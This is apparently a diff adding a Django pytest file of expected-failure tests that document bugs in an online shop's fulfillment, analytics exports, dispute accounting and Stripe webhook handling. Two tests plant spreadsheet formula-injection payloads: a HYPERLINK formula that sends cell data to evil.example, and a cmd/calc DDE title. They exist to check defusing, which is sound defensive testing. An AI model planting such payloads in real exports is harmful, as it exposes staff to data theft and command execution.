@@ -1,0 +1,192 @@
+"""Review 2: failing tests documenting bugs found in payments, fulfillment and analytics.
+
+Each is xfail(strict=True): it fails today for the reason given, and will start passing
+(and so break the suite, as a reminder to drop the marker) once the bug is fixed.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from decimal import Decimal
+
+import pytest
+from django.urls import reverse
+
+pytestmark = pytest.mark.django_db
+
+
+def _pack_and_ship(order, warehouse, service, scans):
+    from fulfillment.services import shipment_scan, shipment_ship
+
+    shipment = None
+    for code, quantity in scans:
+        shipment = shipment_scan(
+            order=order, warehouse=warehouse, code=code, quantity=quantity
+        ).shipment
+    return shipment_ship(shipment=shipment, service=service, tracking_number="TRK1")
+
+
+# --- fulfillment -------------------------------------------------------------------------------
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="fulfillment/returns.py:107 subtracts quantity_refunded from quantity_fulfilled, "
+    "but units refunded before shipping were never shipped: the shopper cannot return a "
+    "unit they received",
+)
+def test_a_unit_refunded_before_shipping_does_not_block_returning_a_shipped_one(
+    make_order, warehouse, carrier
+):
+    from fulfillment.returns import return_request_create, returnable_units
+    from orders.refunds import refund_create
+
+    order = make_order()  # 2 x SHIRT-S, 1 x MUG-1, paid
+    shirt = order.lines.get(sku="SHIRT-S")
+    # Out of one shirt: the shop refunds it before anything ships.
+    refund_create(order=order, lines={shirt.pk: 1}, restock=True, reason="out of stock")
+    order.refresh_from_db()
+    _pack_and_ship(order, warehouse, carrier.service["standard"], [("SHIRT-S", 1), ("MUG-1", 1)])
+    shirt.refresh_from_db()
+    assert (shirt.quantity_fulfilled, shirt.quantity_refunded) == (1, 1)
+
+    # The one shirt that arrived can be sent back.
+    assert returnable_units(order=order)[shirt.pk]["units"] == 1
+    return_request_create(order=order, lines={shirt.pk: 1}, reason="too_small")
+
+
+# --- analytics ---------------------------------------------------------------------------------
+
+BROWSER = "Mozilla/5.0 (X11; Linux x86_64) Firefox/130.0"
+
+
+def _csv(client, table: str, day) -> list[list[str]]:
+    response = client.get(
+        reverse("analytics:staff-export", args=[table]),
+        {"start": day.isoformat(), "end": day.isoformat()},
+    )
+    assert response.status_code == 200
+    return list(csv.reader(io.StringIO(response.content.decode())))
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="analytics/views/staff.py:108 writes Visit.source (the visitor's own utm_source) "
+    "into the CSV as is: a link with ?utm_source==hyperlink(...) plants a formula that runs "
+    "when staff open the export in a spreadsheet (catalog/csv_io.py:_defuse exists for this)",
+)
+def test_sources_export_defuses_a_formula_planted_through_utm_source(client, staff_login, owner):
+    from analytics.models import Visit
+    from analytics.selectors import store_today
+
+    planted = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    response = client.get("/", {"utm_source": planted}, HTTP_USER_AGENT=BROWSER)
+    assert response.status_code == 200
+    assert Visit.objects.get().source.startswith("=")  # recorded as typed (lowercased)
+
+    staff_login(owner)
+    rows = _csv(client, "sources", store_today())
+    cells = [row[0] for row in rows[1:]]
+    assert cells, rows
+    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells), cells
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="analytics/views/staff.py:122 writes product titles into the CSV as is; a title "
+    "starting with = + - @ becomes a formula in the spreadsheet (catalog's own export "
+    "defuses the same titles)",
+)
+def test_products_export_defuses_a_formula_in_a_product_title(client, staff_login, owner):
+    from analytics.models import ProductView
+    from analytics.selectors import store_today
+    from tests.factories import ProductFactory
+
+    product = ProductFactory(title="=1+2*cmd|' /C calc'!A0")
+    from django.utils import timezone
+
+    ProductView.objects.create(visit_key="a" * 32, product=product, viewed_at=timezone.now())
+
+    staff_login(owner)
+    rows = _csv(client, "products", store_today())
+    titles = [row[1] for row in rows[1:]]
+    assert titles, rows
+    assert not any(title.startswith(FORMULA_STARTS) for title in titles), titles
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="analytics/selectors.py:146 counts only Refund rows; a lost chargeback "
+    "(orders/disputes.py:166 _lost) counts as refunded on the order and customer but makes "
+    "no Refund, so the KPI refunds and net revenue / gross profit keep the lost money",
+)
+def test_a_lost_dispute_counts_in_the_days_refunds(make_order):
+    from analytics.models import DailyKpi
+    from analytics.selectors import store_today
+    from analytics.services import kpis_roll_up
+    from orders.disputes import dispute_record
+    from orders.models import Dispute
+
+    order = make_order()
+    dispute_record(
+        payment=order.payments.get(),
+        reference="dp_lost",
+        status=Dispute.Status.LOST,
+        amount=order.total,
+        currency=order.currency,
+        reason="fraudulent",
+    )
+    order.refresh_from_db()
+    assert order.refunded_total == order.total  # the order's books: all of it went back
+
+    today = store_today()
+    kpis_roll_up(first=today, last=today)
+    kpi = DailyKpi.objects.get(day=today)
+    assert kpi.gross_revenue == order.total
+    assert (kpi.refunds, kpi.net_revenue) == (order.total, Decimal("0.00"))
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="analytics/middleware.py:58 keeps up to 200 characters of the referrer host and "
+    "line 113 uses it as the source, but Visit.source / Visitor.first_source / "
+    "DailySourceKpi.source hold 100 (analytics/models.py:24,47,139): on PostgreSQL the "
+    "visit's INSERT fails and the visit and any order attribution in it are silently lost",
+)
+def test_a_long_referrer_host_fits_the_source_column(rf):
+    from analytics.middleware import page_view_for
+    from analytics.models import Visit, Visitor
+
+    host = ".".join(["a" * 60, "b" * 60, "c" * 60]) + ".example"  # a valid 190-char name
+    request = rf.get("/", HTTP_USER_AGENT=BROWSER, HTTP_REFERER=f"https://{host}/page")
+    from django.contrib.auth.models import AnonymousUser
+
+    request.user = AnonymousUser()
+    view = page_view_for(request)
+    assert len(view.source) <= Visit._meta.get_field("source").max_length
+    assert len(view.source) <= Visitor._meta.get_field("first_source").max_length
+
+
+# --- payments ----------------------------------------------------------------------------------
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="orders/webhooks.py:52 hmac.compare_digest raises TypeError for a str with "
+    "non-ASCII characters, so a junk Stripe-Signature header is a 500 (and an error "
+    "report) instead of the 400 every other bad signature gets",
+)
+def test_a_non_ascii_stripe_signature_is_a_400_not_a_crash(client, settings):
+    settings.STRIPE_WEBHOOK_SECRET = "whsec_test"
+    client.raise_request_exception = False
+    response = client.post(
+        reverse("orders:stripe-webhook"),
+        data=b'{"id": "evt_1"}',
+        content_type="application/json",
+        HTTP_STRIPE_SIGNATURE="t=1700000000,v1=\u00e9\u00e9",
+    )
+    assert response.status_code == 400
